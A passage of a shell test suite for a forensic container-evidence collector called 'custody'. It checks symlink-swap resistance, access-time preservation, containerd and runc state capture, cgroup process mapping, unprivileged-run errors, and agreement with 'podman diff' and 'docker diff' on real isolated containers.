		printf "name: c\nentries:\n  - live: containers\n    root: %s\n" "$r" >w1.yaml &&
		{ "$CUSTODY" collect --key key --compress none \
		    --profile w1.yaml -o w1.tar >/dev/null 2>err & } && cpid=$! &&
		swapped=0 && { swap_when_open $cpid "$c" "$TEST_TMP/out2" || swapped=$?; } &&
		{ wait $cpid; echo $? >w1.status; } &&
		if [ -L "$c" ]; then rm "$c" && mv "$c.x" "$c"; fi &&
		extract w1.tar w1x && ! grep -r -l MARKER w1x &&
		custody verify --key key.pub w1.tar >/dev/null &&
		# Whether a log was still to come when the swap was made depends
		# on the order and the load: either way nothing outside is read,
		# and a log that could not be reached is an error (exit 3).
		{ [ $swapped = 0 ] || echo "# the swap window was missed"; } &&
		st=$(cat w1.status) && { [ "$st" = 0 ] || [ "$st" = 3 ]; } &&
		jq -e -s --argjson st "$st" "map(select(.source // \"\" | test(\"-json.log\"))) |
		    length == 4 and all(.status == \"ok\" or
		      .reason == \"stat: Not a directory\") and
		    (any(.status == \"error\") == (\$st == 3))" w1x/custody/manifest.jsonl >/dev/null
	'
else
	test_skip 'a log directory swapped for a link while its logs are collected' 'needs root'
fi

# atimes: the atimes of the objects named in ./paths (stat reads no directory).
atimes() {
	xargs stat -c "%X %F %n" <paths
}

# A directory listed and a link read here change their atimes (the test
# tree is not on a noatime or read-only mount), or the next test is moot.
mkdir -p "$TEST_TMP/probe/d" && ln -s d "$TEST_TMP/probe/l" &&
    touch -a -d 2001-01-01 "$TEST_TMP/probe/d" &&
    touch -h -a -d 2001-01-01 "$TEST_TMP/probe/l" &&
    ls "$TEST_TMP/probe/d" >/dev/null && readlink "$TEST_TMP/probe/l" >/dev/null
if [ "$(id -u)" = 0 ] &&
    [ "$(stat -c %X "$TEST_TMP/probe/d")" != "$(date -d 2001-01-01 +%s)" ] &&
    [ "$(stat -c %X "$TEST_TMP/probe/l")" != "$(date -d 2001-01-01 +%s)" ]; then
	test_expect_success 'atimes of directories, files and links in the tree are left alone' '
		r=$TEST_TMP/a1 && docker_tree "$r" &&
		podman_tree "$r" /var/lib/containers/storage &&
		mkdir -p "$r/run/runc/$PODID" && echo "{\"id\": \"$PODID\"}" \
		    >"$r/run/runc/$PODID/state.json" &&
		ln -s ../tmp/x.sh "$r/var/lib/docker/overlay2/mnt$ID/diff/etc/run.sh" &&
		find "$r" >paths && xargs touch -h -a -d 2001-01-01 <paths &&
		atimes >before && grep -q "^$(date -d 2001-01-01 +%s) directory .*/diff/tmp\$" before &&
		collect_root "$r" a1.tar && extract a1.tar a1x &&
		atimes >after && diff before after &&
		doc a1x | jq -e "(.docker.containers[0].writable_layer |
		    (.lower | map(.target_not_read) == [true, true]) and
		    (.lower | map(.missing) == [false, false]) and
		    .targets_not_read >= 1) and .errors == []" >/dev/null &&
		test "$(change a1x /etc/run.sh | jq -r .target_not_read)" = true &&
		test "$(change a1x /etc/run.sh | jq -r .target)" = null &&
		test "$(change a1x /etc/passwd | jq -r .change)" = C &&
		custody verify --key key.pub a1.tar >/dev/null
	'
else
	test_skip 'atimes of directories, files and links in the tree are left alone' \
	    'not root, or atimes do not change on the test directory'"'"'s mount'
fi

test_expect_success 'containerd: the database hashed, not parsed; task specs and runc state read' '
	r=$TEST_TMP/k1 &&
	mkdir -p "$r/var/lib/containerd/io.containerd.metadata.v1.bolt" \
	    "$r/run/containerd/io.containerd.runtime.v2.task/k8s.io/$ID" \
	    "$r/run/runc/$PODID" &&
	head -c 32768 /dev/urandom >"$r/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db" &&
	echo "{\"ociVersion\": \"1.1.0\", \"process\": {\"args\": [\"nginx\"]}}" \
	    >"$r/run/containerd/io.containerd.runtime.v2.task/k8s.io/$ID/config.json" &&
	echo 4343 >"$r/run/containerd/io.containerd.runtime.v2.task/k8s.io/$ID/init.pid" &&
	echo "{\"id\": \"$PODID\", \"init_process_pid\": 77, \"created\": \"2026-11-30T08:00:00Z\",
	    \"config\": {\"rootfs\": \"/x/rootfs\", \"labels\": [\"bundle=/x\"]}}" \
	    >"$r/run/runc/$PODID/state.json" &&
	collect_root "$r" k1.tar && extract k1.tar k1x &&
	doc k1x | jq -e --arg sha "$(sha256sum <"$r/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db" | cut -c1-64)" \
	    --arg id "$ID" ".containerd.metadata.sha256 == \$sha and
	    .containerd.metadata.size == 32768 and .containerd.metadata.parsed == false and
	    .containerd.tasks[0].namespace == \"k8s.io\" and .containerd.tasks[0].id == \$id and
	    .containerd.tasks[0].spec.args == [\"nginx\"] and .containerd.tasks[0].init_pid == 4343 and
	    .runc[0].pid == 77 and .runc[0].rootfs == \"/x/rootfs\" and
	    .engines_found.runtimes and .errors == []" >/dev/null
'

# A cgroup named as Docker names its scopes, holding a process of ours.
CG=
if [ "$(id -u)" = 0 ] && [ -d /sys/fs/cgroup/pids ] &&
    mkdir "/sys/fs/cgroup/pids/docker-$ID.scope" 2>/dev/null; then
	CG=/sys/fs/cgroup/pids/docker-$ID.scope
elif [ "$(id -u)" = 0 ] && [ -f /sys/fs/cgroup/cgroup.procs ] &&
    mkdir "/sys/fs/cgroup/docker-$ID.scope" 2>/dev/null; then
	CG=/sys/fs/cgroup/docker-$ID.scope
fi
if [ -n "$CG" ]; then
	trap 'kill $SLEEPER 2>/dev/null; wait $SLEEPER 2>/dev/null; rmdir "$CG"; chmod -R u+rwx "$TEST_TMP" 2>/dev/null; rm -rf "$TEST_TMP"' EXIT
	sleep 300 &
	SLEEPER=$!
	echo $SLEEPER >"$CG/cgroup.procs"
	test_expect_success 'a host process in a container cgroup is tied to its container' '
		docker_container "$TEST_TMP/c1" && collect_root "$TEST_TMP/c1" c1.tar &&
		extract c1.tar c1x &&
		doc c1x | jq -e --arg id "$ID" --argjson pid "$SLEEPER" "
		    (.processes[] | select(.pid == \$pid) | .id == \$id and
		      .runtime == \"docker\" and .comm == \"sleep\") and
		    .docker.containers[0].pids == [\$pid]" >/dev/null
	'
else
	test_skip 'a host process in a container cgroup is tied to its container' \
	    'cannot make a cgroup here'
fi

if [ "$(id -u)" = 0 ] && command -v setpriv >/dev/null; then
	test_expect_success 'an unprivileged run records what it cannot read, and why' '
		docker_container "$TEST_TMP/u1" && chmod 700 "$TEST_TMP/u1/var/lib/docker" &&
		podman_store_dir=$TEST_TMP/u1/var/lib/containers/storage &&
		mkdir -p "$podman_store_dir/overlay-containers" &&
		echo "[]" >"$podman_store_dir/overlay-containers/containers.json" &&
		chmod 600 "$podman_store_dir/overlay-containers/containers.json" &&
		mkdir -p nobody && chown 65534:65534 nobody && cp key nobody/key &&
		chown 65534 nobody/key &&
		printf "name: c\nentries:\n  - live: containers\n    root: %s\n" \
		    "$TEST_TMP/u1" >nobody/p.yaml &&
		(cd nobody && timeout 120 setpriv --reuid=65534 --regid=65534 --clear-groups \
		    "$CUSTODY" collect --key key --compress none --profile ./p.yaml \
		    -o u1.tar >/dev/null 2>../err) &&
		extract nobody/u1.tar u1x &&
		errors_of u1x &&
		test_grep "var/lib/docker/containers: Permission denied" errs &&
		test_grep "containers.json: Permission denied" errs
	'
else
	test_skip 'an unprivileged run records what it cannot read' 'needs root and setpriv'
fi

# podman_real ARGS...: Podman as it can run here (cgroupfs, runc, no
# network, no default ulimits, which a sandbox may refuse to raise), its
# store and state in $TEST_TMP/real, never the host's.
podman_real() {
	printf '[containers]\ndefault_ulimits = []\n' >"$TEST_TMP/containers.conf" &&
	CONTAINERS_CONF=$TEST_TMP/containers.conf timeout 120 podman --runtime runc \
	    --cgroup-manager=cgroupfs --root "$TEST_TMP/real/var/lib/containers/storage" \
	    --runroot "$TEST_TMP/rr" \
	    --runtime-flag "root=$TEST_TMP/real/run/runc" --tmpdir "$TEST_TMP/pt" \
	    --events-backend none "$@"
}

# image_tar: $TEST_TMP/img.tar, an image of sleep and sh and their libraries.
image_tar() {
	test -s "$TEST_TMP/img.tar" && return 0
	mkdir -p "$TEST_TMP/img/bin" && cp /bin/sleep "$TEST_TMP/img/bin/" &&
	cp -L /bin/sh "$TEST_TMP/img/bin/sh" &&
	for lib in $(ldd /bin/sleep /bin/sh | grep -o '/[^ :]*' | sort -u); do
		mkdir -p "$TEST_TMP/img$(dirname "$lib")" && cp -L "$lib" "$TEST_TMP/img$lib"
	done &&
	tar -C "$TEST_TMP/img" -cf "$TEST_TMP/img.tar" .
}

# What the real engines make on the host whatever their options say (a
# blob cache, shim sockets, a plugin directory): removed at
# the end when the test made them, and then only when empty.
HOST_MADE=
for dir in /var/lib/containers/cache /var/lib/containers /run/containerd/s \
    /run/containerd /run/docker/plugins /run/docker /run/runc; do
	test -e "$dir" || HOST_MADE="$HOST_MADE $dir"
done

# A real container from an image made here.
REAL=
if [ "$(id -u)" = 0 ] && command -v podman >/dev/null && command -v runc >/dev/null; then
	REAL=custody-t0730-$$
	image_tar &&
	podman_real import "$TEST_TMP/img.tar" "localhost/$REAL:1" >/dev/null 2>"$TEST_TMP/podman.err" &&
	podman_real run -d --network none --name "$REAL" "localhost/$REAL:1" \
	    /bin/sleep 300 >/dev/null 2>&1 || REAL=
fi
if [ -n "$REAL" ]; then
	test_expect_success 'the real Podman: our changes agree with podman diff, the process is found' '
		cid=$(podman_real inspect -f "{{.Id}}" "$REAL") &&
		pid=$(podman_real inspect -f "{{.State.Pid}}" "$REAL") &&
		podman_real exec "$REAL" /bin/sh -c "printf \"#!/bin/sh\\necho staged\\n\" >/bin/stage.sh" &&
		podman_real diff "$REAL" | sort >theirs &&
		test -s theirs &&
		collect_root "$TEST_TMP/real" real.tar && extract real.tar realx &&
		custody verify --key key.pub real.tar >/dev/null &&
		jq -r --arg id "$cid" ".podman.stores[].containers[] | select(.id == \$id) |
		    .writable_layer.changes[] | \"\(.change) \(.path)\"" \
		    realx/live/containers.json | sort >ours &&
		comm -23 theirs ours >missing && ! test -s missing &&
		doc realx | jq -e --arg id "$cid" --argjson pid "$pid" "
		    (.podman.stores[].containers[] | select(.id == \$id) |
		      .names == [\"$REAL\"] and .pids == [\$pid] and
		      .spec.args == [\"/bin/sleep\", \"300\"]) and
		    (.processes[] | select(.pid == \$pid) | .runtime == \"podman\") and
		    (.runc[] | select(.id == \$id) | .pid == \$pid)" >/dev/null &&
		test -e "realx/live/containers/podman/root/$cid/diff/bin/stage.sh"
	'
	podman_real rm -f "$REAL" >/dev/null 2>&1
	podman_real rmi "localhost/$REAL:1" >/dev/null 2>&1
else
	cat "$TEST_TMP/podman.err" 2>/dev/null | sed "s/^/# /"
	test_skip 'the real Podman: our changes agree with podman diff' \
	    'podman and runc cannot run a container here'
fi

# docker_real ARGS...: the Docker client of a daemon of our own, whose
# data root is $TEST_TMP/dreal/var/lib/docker, never the host's.
docker_real() {
	timeout 120 docker -H "unix://$TEST_TMP/docker.sock" "$@"
}

# Start that daemon (no bridge, no iptables); wait for it.
docker_start() {
	mkdir -p "$TEST_TMP/dreal/var/lib/docker" "$TEST_TMP/dexec" || return 1
	dockerd --data-root "$TEST_TMP/dreal/var/lib/docker" \
	    --exec-root "$TEST_TMP/dexec" --pidfile "$TEST_TMP/dockerd.pid" \
	    -H "unix://$TEST_TMP/docker.sock" --iptables=false --ip6tables=false \
	    --bridge=none --exec-opt native.cgroupdriver=cgroupfs \
	    >"$TEST_TMP/dockerd.log" 2>&1 &
	DOCKERD=$!
	for i in $(seq 1 60); do
		docker_real info >/dev/null 2>&1 && return 0
		kill -0 $DOCKERD 2>/dev/null || return 1
		sleep 0.5
	done
	return 1
}

DREAL=
DOCKERD=
if [ "$(id -u)" = 0 ] && command -v dockerd >/dev/null && command -v docker >/dev/null &&
    docker_start && image_tar &&
    docker_real import "$TEST_TMP/img.tar" "custody-t0730:$$" >/dev/null 2>&1 &&
    docker_real run -d --network none --name "custody-t0730-$$" "custody-t0730:$$" \
	/bin/sleep 300 >/dev/null 2>&1; then
	DREAL=custody-t0730-$$
fi
if [ -n "$DREAL" ]; then
	test_expect_success 'the real Docker: our changes agree with docker diff, the process is found' '
		cid=$(docker_real inspect -f "{{.Id}}" "$DREAL") &&
		pid=$(docker_real inspect -f "{{.State.Pid}}" "$DREAL") &&
		docker_real exec "$DREAL" /bin/sh -c "printf \"#!/bin/sh\\necho staged\\n\" >/bin/stage.sh" &&
		docker_real diff "$DREAL" | sort >theirs &&
		test -s theirs &&
		collect_root "$TEST_TMP/dreal" dreal.tar && extract dreal.tar drealx &&
		custody verify --key key.pub dreal.tar >/dev/null &&
		jq -r ".docker.containers[].writable_layer.changes[] |
		    \"\(.change) \(.path)\"" drealx/live/containers.json | sort >ours &&
		comm -23 theirs ours >missing && ! test -s missing &&
		doc drealx | jq -e --arg id "$cid" --argjson pid "$pid" "
		    .docker.containers[0].id == \$id and
		    .docker.containers[0].name == \"/$DREAL\" and
		    .docker.containers[0].state == \"running\" and
		    .docker.containers[0].pid == \$pid and
		    .docker.containers[0].pids == [\$pid] and
		    .docker.containers[0].network_mode == \"none\" and
		    .docker.tags[0].reference == \"custody-t0730:$$\" and
		    (.processes[] | select(.pid == \$pid) | .runtime == \"docker\") and
		    .errors == []" >/dev/null &&
		test -e "drealx/live/containers/docker/$cid/diff/bin/stage.sh" &&
		test -e "drealx/files$TEST_TMP/dreal/var/lib/docker/containers/$cid/$cid-json.log"
	'
else
	test_skip 'the real Docker: our changes agree with docker diff' \
	    'dockerd cannot run a container here'
fi
if [ -n "$DOCKERD" ]; then
	docker_real rm -f "custody-t0730-$$" >/dev/null 2>&1
	kill $DOCKERD 2>/dev/null
	for i in $(seq 1 40); do
		kill -0 $DOCKERD 2>/dev/null || break
		sleep 0.5
	done
	kill -9 $DOCKERD 2>/dev/null
	wait $DOCKERD 2>/dev/null
	umount "$TEST_TMP/dreal/var/lib/docker" 2>/dev/null
fi

for dir in $HOST_MADE; do
	rm -f "$dir/blob-info-cache-v1.boltdb"
	rmdir "$dir" 2>/dev/null
done

test_done
